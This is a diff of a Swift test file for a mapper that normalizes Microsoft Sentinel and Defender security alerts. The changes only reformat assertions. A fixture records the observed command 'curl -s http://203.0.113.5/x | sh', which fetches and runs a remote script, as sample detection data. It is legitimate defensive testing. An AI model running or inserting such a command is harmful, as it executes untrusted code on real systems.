@@ -34,15 +34,21 @@ struct SentinelMapperTests {
         #expect(alert.sourceID == "2c9e4b1a-5d6f-4a70-9b8c-1d2e3f405162")
         #expect(alert.time == TimestampParser.iso8601("2024-05-14T08:31:07.412Z"))
         #expect(alert.description == "A process ran PowerShell with an encoded command that downloads a script.")
-        #expect(Self.attribute(alert, "remediation")
-            == .object([JSONMember("desc", .string("Isolate WKS-042.\nReset the credentials of alice@contoso.com."))]))
+        #expect(
+            Self.attribute(alert, "remediation")
+                == .object([
+                    JSONMember("desc", .string("Isolate WKS-042.\nReset the credentials of alice@contoso.com."))
+                ]))
     }
 
     @Test("Entities encoded as a string give the dedup entities, observables and evidences, $ref resolved")
     func securityAlertEntities() throws {
         let alert = try Fixtures.map("alerts/sentinel/securityalert-scheduled.json", as: .sentinel)
-        #expect(alert.entities == Entities(host: "WKS-042.corp.contoso.com", user: "alice@contoso.com",
-                                           sourceIP: "198.51.100.23"))
+        #expect(
+            alert.entities
+                == Entities(
+                    host: "WKS-042.corp.contoso.com", user: "alice@contoso.com",
+                    sourceIP: "198.51.100.23"))
         let observed = Self.observed(alert)
         #expect(observed.contains("hostname wks-042.corp.contoso.com"))
         #expect(observed.contains("user alice@contoso.com"))
@@ -62,12 +68,13 @@ struct SentinelMapperTests {
     @Test("Several tactics stay apart from the techniques; a sub-technique replaces its parent")
     func securityAlertAttacks() throws {
         let alert = try Fixtures.map("alerts/sentinel/securityalert-scheduled.json", as: .sentinel)
-        #expect(alert.attacks == [
-            Attack(techniqueID: "T1105"),
-            Attack(techniqueID: "T1059.001"),
-            Attack(tacticID: "TA0002", tacticName: "Execution"),
-            Attack(tacticID: "TA0011", tacticName: "Command and Control"),
-        ])
+        #expect(
+            alert.attacks == [
+                Attack(techniqueID: "T1105"),
+                Attack(techniqueID: "T1059.001"),
+                Attack(tacticID: "TA0002", tacticName: "Execution"),
+                Attack(tacticID: "TA0011", tacticName: "Command and Control"),
+            ])
         #expect(alert.types == ["Execution", "CommandAndControl"])
     }
 
@@ -84,15 +91,20 @@ struct SentinelMapperTests {
         #expect(alert.time == TimestampParser.iso8601("2024-06-02T21:14:55.1234567Z"))
         #expect(alert.entities == Entities(user: "bob@contoso.com"))
         #expect(alert.attacks == [Attack(techniqueID: "T1078", tacticID: "TA0001", tacticName: "Initial Access")])
-        #expect(Self.attribute(alert, "src_url")
-            == .string("https://portal.azure.com/#blade/Microsoft_AAD_IAM/RiskDetectionsBlade"))
-        #expect(Self.attribute(alert, "remediation")
-            == .object([JSONMember("desc", .string("Confirm the sign-in with the user.\nRequire a password change."))]))
+        #expect(
+            Self.attribute(alert, "src_url")
+                == .string("https://portal.azure.com/#blade/Microsoft_AAD_IAM/RiskDetectionsBlade"))
+        #expect(
+            Self.attribute(alert, "remediation")
+                == .object([
+                    JSONMember("desc", .string("Confirm the sign-in with the user.\nRequire a password change."))
+                ]))
     }
 
     @Test("A REST alert with structured, camelCase entities (Defender for Cloud) maps them and its arrays whole")
     func restAlertEntities() throws {
-        let record = try JSONParser.parse(#"""
+        let record = try JSONParser.parse(
+            #"""
             {"name": "2517538088322968242_c3b3c", "type": "Microsoft.Security/Locations/alerts",
              "properties": {"systemAlertId": "2517538088322968242_c3b3c", "alertType": "VM_SuspiciousProcess",
               "alertDisplayName": "Suspicious process executed", "severity": "High", "intent": "Execution",
@@ -112,10 +124,11 @@ struct SentinelMapperTests {
         #expect(alert.time == TimestampParser.iso8601("2024-03-01T11:02:03.456Z"))
         #expect(alert.entities == Entities(host: "vm-web-01", user: "azureuser"))
         #expect(Self.observed(alert).contains("command_line curl -s http://203.0.113.5/x | sh"))
-        #expect(alert.attacks == [
-            Attack(techniqueID: "T1059", tacticID: "TA0002", tacticName: "Execution"),
-            Attack(techniqueID: "T1105", tacticID: "TA0002", tacticName: "Execution"),
-        ])
+        #expect(
+            alert.attacks == [
+                Attack(techniqueID: "T1059", tacticID: "TA0002", tacticName: "Execution"),
+                Attack(techniqueID: "T1105", tacticID: "TA0002", tacticName: "Execution"),
+            ])
     }
 
     @Test("A REST incident maps title, severity, analytic rule GUID and tactics, and not its owner")
@@ -136,7 +149,8 @@ struct SentinelMapperTests {
 
     @Test("An incident as the Azure SDK serializes it (snake_case) is recognized")
     func sdkIncident() throws {
-        let record = try JSONParser.parse(#"""
+        let record = try JSONParser.parse(
+            #"""
             {"name": "0a1b", "type": "Microsoft.SecurityInsights/Incidents", "title": "Brute force on VPN",
              "severity": "Low", "status": "New", "incident_number": 12,
              "created_time_utc": "2025-01-10T09:00:00.500000+00:00",
@@ -155,7 +169,8 @@ struct SentinelMapperTests {
 
     @Test("An alert as the Azure SDK serializes it (snake_case) is recognized")
     func sdkAlert() throws {
-        let record = try JSONParser.parse(#"""
+        let record = try JSONParser.parse(
+            #"""
             {"name": "77aa", "type": "Microsoft.SecurityInsights/Entities", "kind": "SecurityAlert",
              "system_alert_id": "77aa", "alert_display_name": "Mass download by a single user", "severity": "Low",
              "alert_type": "MassDownload", "time_generated": "2025-02-11T16:20:00+00:00",
@@ -171,16 +186,18 @@ struct SentinelMapperTests {
         #expect(alert.product == "Microsoft Cloud App Security")
         #expect(alert.time == TimestampParser.iso8601("2025-02-11T16:20:00+00:00"))
         #expect(alert.entities == Entities(user: "erin@contoso.com"))
-        #expect(alert.attacks == [
-            Attack(techniqueID: "T1530"),
-            Attack(tacticID: "TA0010", tacticName: "Exfiltration"),
-            Attack(tacticID: "TA0009", tacticName: "Collection"),
-        ])
+        #expect(
+            alert.attacks == [
+                Attack(techniqueID: "T1530"),
+                Attack(tacticID: "TA0010", tacticName: "Exfiltration"),
+                Attack(tacticID: "TA0009", tacticName: "Collection"),
+            ])
     }
 
     @Test("String-encoded fields that do not parse are ignored, not fatal")
     func brokenEmbeddedJSON() throws {
-        let record = try JSONParser.parse(#"""
+        let record = try JSONParser.parse(
+            #"""
             {"SystemAlertId": "a-1", "AlertName": "Rare process", "AlertSeverity": "Low", "AlertType": "RareProcess",
              "Entities": "[{\"$id\":\"2\",\"HostName\":", "ExtendedProperties": "{not json",
              "Techniques": "[\"T1059\"", "CompromisedEntity": "db-01"}
@@ -209,8 +226,11 @@ struct SentinelMapperTests {
             JSONMember("Entities", .string("[" + entities.joined(separator: ",") + "]")),
         ])
         let alert = try SentinelMapper.map(FieldReader(record))
-        #expect(alert.entities == Entities(host: "dc-01", user: "dave", sourceIP: "203.0.113.9",
-                                           destinationIP: "10.0.0.4"))
+        #expect(
+            alert.entities
+                == Entities(
+                    host: "dc-01", user: "dave", sourceIP: "203.0.113.9",
+                    destinationIP: "10.0.0.4"))
         #expect(Self.observed(alert).contains("ip 127.0.0.1"))
     }
 
@@ -230,13 +250,19 @@ struct SentinelMapperTests {
     @Test("An alert without a name is rejected naming the field of its shape")
     func missingName() throws {
         let row = try JSONParser.parse(#"{"SystemAlertId": "x", "AlertSeverity": "High"}"#)
-        #expect(throws: MappingError(field: "AlertName",
-                                     "missing; a Sentinel alert names the analytic or detection that fired")) {
+        #expect(
+            throws: MappingError(
+                field: "AlertName",
+                "missing; a Sentinel alert names the analytic or detection that fired")
+        ) {
             try SentinelMapper.map(FieldReader(row))
         }
         let rest = try JSONParser.parse(#"{"kind": "SecurityAlert", "properties": {"systemAlertId": "x"}}"#)
-        #expect(throws: MappingError(field: "properties.alertDisplayName",
-                                     "missing; a Sentinel alert names the analytic or detection that fired")) {
+        #expect(
+            throws: MappingError(
+                field: "properties.alertDisplayName",
+                "missing; a Sentinel alert names the analytic or detection that fired")
+        ) {
             try SentinelMapper.map(FieldReader(rest))
         }
     }
